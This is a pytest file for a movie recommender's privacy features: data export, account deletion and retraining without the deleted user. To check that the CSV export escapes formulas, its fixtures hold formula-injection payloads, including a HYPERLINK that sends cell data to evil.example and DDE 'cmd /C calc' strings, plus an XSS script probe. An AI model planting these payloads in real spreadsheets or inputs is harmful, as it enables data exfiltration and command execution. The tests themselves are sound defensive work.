"""Privacy: the export (typed, JSON, formula-safe CSV) and deleting an account in one
transaction, after which the next retrain no longer learns from the user (both backends)."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
from sqlalchemy import func, insert, select, text

from recsys.auth.credentials import AccountError
from recsys.lifecycle.engine import Engine
from recsys.lifecycle.reuse import stale_reason
from recsys.lifecycle.training import load_or_train_engine
from recsys.services import HomeFilters, Marquee, privacy
from recsys.services.privacy import to_csv, to_json, user_tables
from recsys.store import impressions as impression_store
from recsys.store import nights as night_store
from recsys.store.models import Base, Interaction, Title

PASSWORD = "Str0ng#Passw0rd"
HOSTILE_TITLES = {
    "tt9900001": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "tt9900002": "+cmd|' /C calc'!A0",
    "tt9900003": "-2+3+cmd|' /C calc'!A0",
    "tt9900004": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tt9900005": "\t=1+1",
    "tt9900006": "\r=1+1",
    "tt9900007": 'A "quoted", comma title <script>alert(1)</script>',
}


def _hostile_user(service: Marquee) -> int:
    uid = service.accounts.register(
        "=cmd|' /C calc'!A0 <b>Ada</b>", "ada@example.com", "ada", PASSWORD, PASSWORD
    )
    service.onboarding.set_favorite_genres(uid, service.onboarding.available_genres()[:5])
    with service.db.session() as session:
        session.execute(
            insert(Title),
            [
                {"tconst": t, "title_type": "movie", "primary_title": name, "start_year": 2001,
                 "num_votes": 5000}
                for t, name in HOSTILE_TITLES.items()
            ],
        )  # fmt: skip
    for i, tconst in enumerate(HOSTILE_TITLES):
        service.ratings.rate(uid, tconst, "like" if i % 2 else "dislike")
    service.ratings.rate(uid, "tt0000404", "like")  # a title no longer in the catalog
    return uid


def test_export_holds_the_profile_and_every_choice(service: Marquee) -> None:
    uid = _hostile_user(service)
    export = service.privacy.export(uid)
    assert export.profile.username == "ada" and export.profile.email == "ada@example.com"
    assert export.profile.name.startswith("=cmd") and export.profile.onboarded is False
    assert export.profile.favorite_genres == tuple(service.onboarding.available_genres()[:5])
    assert [c.tconst for c in export.choices] == [*HOSTILE_TITLES, "tt0000404"]
    assert export.choices[0].title == HOSTILE_TITLES["tt9900001"]
    assert (export.choices[0].liked, export.choices[1].liked) == (False, True)
    assert export.choices[0].title_type == "movie" and export.choices[0].year == 2001
    assert export.choices[-1].title is None and export.choices[-1].source == "home"

    loaded = json.loads(to_json(export))
    assert loaded["profile"]["name"] == export.profile.name
    assert list(loaded["profile"]) == [  # the account's row id is ours, not the user's data
        "username", "name", "email", "created_at", "favorite_genres", "onboarded",
    ]  # fmt: skip
    assert loaded["choices"][1]["title"] == HOSTILE_TITLES["tt9900002"]
    assert datetime.fromisoformat(loaded["choices"][0]["created_at"]).tzinfo is not None


def test_csv_export_escapes_formulas(service: Marquee) -> None:
    uid = _hostile_user(service)
    data = to_csv(service.privacy.export(uid))
    rows = list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))
    assert rows[0] == list(privacy.CSV_COLUMNS)
    assert len(rows) == 1 + len(HOSTILE_TITLES) + 1
    titles = {row[0]: row[1] for row in rows[1:]}
    for tconst, name in HOSTILE_TITLES.items():
        expected = "'" + name if name[0] in "=+-@\t\r" else name
        assert titles[tconst] == expected
    for row in rows[1:]:  # no cell a spreadsheet would run
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)


@pytest.mark.parametrize(
    ("value", "escaped"),
    [("=1", "'=1"), ("+1", "'+1"), ("-1", "'-1"), ("@a", "'@a"), ("\tx", "'\tx"),
     ("\rx", "'\rx"), ("a=1", "a=1"), ("", ""), (None, ""), (True, "True")],
)  # fmt: skip
def test_escape_cell(value: Any, escaped: str) -> None:
    assert privacy.escape_cell(value) == escaped


def _populate(service: Marquee, username: str) -> int:
    """A user with likes, an impression, a log-in session, a saved title, Home filters, a
    hidden title ("Stop using this" on a like) and a movie night (hosted, a veto, a title
    watched together, a stored ranked list)."""
    uid = service.accounts.register(
        username.title(), f"{username}@example.com", username, PASSWORD, PASSWORD
    )
    movies = [c.tconst for c in service.picks.search("a", limit=6)]
    for tconst in movies:
        service.ratings.rate(uid, tconst, "like")
    with service.db.session() as session:
        impression_store.log_shown(session, uid, "movie", [(movies[0], 1, "hybrid")])
    service.sessions.start(uid, label="test")
    service.watchlist.add(uid, movies[0])
    service.discovery.set_filters(uid, HomeFilters(kind="movie"))
    service.steering.hide(uid, movies[1], "no_seed")
    night = service.nights.create(uid, "Movie night").night_id  # seat, veto, watched mark
    service.nights.veto(uid, night, movies[2])
    service.nights.watched(uid, night, movies[3])
    with service.db.session() as session:  # a ranked list stored at the seat (with a model)
        night_store.store_list(
            session, uid, "movie", "key", json.dumps([[movies[4], None, None]]), datetime.now(UTC)
        )
    return uid


def _user_rows(service: Marquee, uid: int) -> dict[str, int]:
    with service.db.engine.connect() as conn:
        counts = {
            t.name: conn.execute(
                select(func.count()).select_from(t).where(t.c.user_id == uid)
            ).scalar_one()
            for t in user_tables()
        }
        counts["users"] = conn.execute(
            text("SELECT COUNT(*) FROM users WHERE id = :u"), {"u": uid}
        ).scalar_one()
    return counts


def test_every_table_pointing_at_users_is_covered() -> None:
    names = {t.name for t in user_tables()}
    assert {"interactions", "impressions"} <= names
    assert "training_ratings" not in names  # MovieLens user ids, not ours
    expected = {
        t.name
        for t in Base.metadata.sorted_tables
        if any(fk.column.table.name == "users" for fk in t.foreign_keys)
    }
    assert names == expected


def test_delete_account_needs_the_username(service: Marquee) -> None:
    uid = _populate(service, "ada")
    before = _user_rows(service, uid)
    for wrong in ("", "Ada ", "ad", "bob", "ADA", "ada\x00"):
        with pytest.raises(AccountError, match="type its username"):
            service.privacy.delete_account(uid, wrong)
    assert _user_rows(service, uid) == before and before["interactions"] == 6
    with pytest.raises(AccountError, match="no longer exists"):
        service.privacy.delete_account(uid + 100, "ada")


def test_delete_account_removes_the_user_and_their_rows(service: Marquee) -> None:
    ada, bob = _populate(service, "ada"), _populate(service, "bob")
    ada_before = _user_rows(service, ada)
    assert all(n >= 1 for n in ada_before.values()), ada_before
    bob_before = _user_rows(service, bob)
    service.privacy.delete_account(ada, " ada ")
    assert set(_user_rows(service, ada).values()) == {0}
    assert _user_rows(service, bob) == bob_before  # nobody else's rows
    assert service.accounts.user("ada") is None
    with pytest.raises(AccountError):
        service.privacy.export(ada)


def test_a_failure_mid_way_rolls_everything_back(
    service: Marquee, monkeypatch: pytest.MonkeyPatch
) -> None:
    uid = _populate(service, "ada")
    before = _user_rows(service, uid)

    def fail(session: Any, user_id: int) -> None:
        raise RuntimeError("connection lost")

    monkeypatch.setattr(privacy, "_delete_user", fail)  # after the child rows were deleted
    with pytest.raises(RuntimeError, match="connection lost"):
        service.privacy.delete_account(uid, "ada")
    assert _user_rows(service, uid) == before


def test_the_next_retrain_no_longer_learns_from_a_deleted_user(
    service: Marquee, monkeypatch: pytest.MonkeyPatch
) -> None:
    ada, bob = _populate(service, "ada"), _populate(service, "bob")
    seen: list[Any] = []
    real_fit = Engine.fit

    def spy(self: Engine, catalog: Any, ratings: Any, tags: Any = None, interactions: Any = None,
            **kw: Any) -> Engine:  # fmt: skip
        seen.append(interactions.copy())
        return real_fit(self, catalog, ratings, tags, interactions, **kw)

    monkeypatch.setattr(Engine, "fit", spy)
    before = load_or_train_engine(service.settings, service.db, force=True).engine
    assert {f"app:{ada}", f"app:{bob}"} <= set(seen[-1]["user_id"])
    known_before = before.n_interactions_

    service.privacy.delete_account(ada, "ada")
    after = load_or_train_engine(service.settings, service.db, force=True).engine
    users = set(seen[-1]["user_id"])
    assert f"app:{ada}" not in users and f"app:{bob}" in users
    assert after.n_interactions_ == known_before - 6
    assert after.fingerprint_ != before.fingerprint_
    # The fitted SVD knows bob and no longer ada (it knew both before).
    assert {f"app:{ada}", f"app:{bob}"} <= set(before.graph.svd.user_index_)
    assert f"app:{ada}" not in after.graph.svd.user_index_
    assert f"app:{bob}" in after.graph.svd.user_index_


def test_a_deletion_counts_towards_the_retrain_trigger(service: Marquee) -> None:
    ada, _ = _populate(service, "ada"), _populate(service, "bob")
    settings = service.settings.with_overrides(retrain_after_interactions=6)
    engine = load_or_train_engine(settings, service.db, force=True).engine
    assert stale_reason(engine.manifest(), settings, service.db) is None
    service.privacy.delete_account(ada, "ada")  # 6 likes gone, none added since training
    assert stale_reason(engine.manifest(), settings, service.db) is not None


def test_deleting_leaves_interactions_of_the_catalog_alone(service: Marquee) -> None:
    uid = _populate(service, "ada")
    with service.db.session() as session:
        titles = session.scalar(select(func.count()).select_from(Title))
        session.execute(
            insert(Interaction).values(
                user_id=uid, tconst="tt0000001", liked=True,
                created_at=datetime.now(UTC) - timedelta(days=1),
                updated_at=datetime.now(UTC) - timedelta(days=1),
            )
        )  # fmt: skip
    service.privacy.delete_account(uid, "ada")
    with service.db.session() as session:
        assert session.scalar(select(func.count()).select_from(Title)) == titles
        assert session.scalar(select(func.count()).select_from(Interaction)) == 0
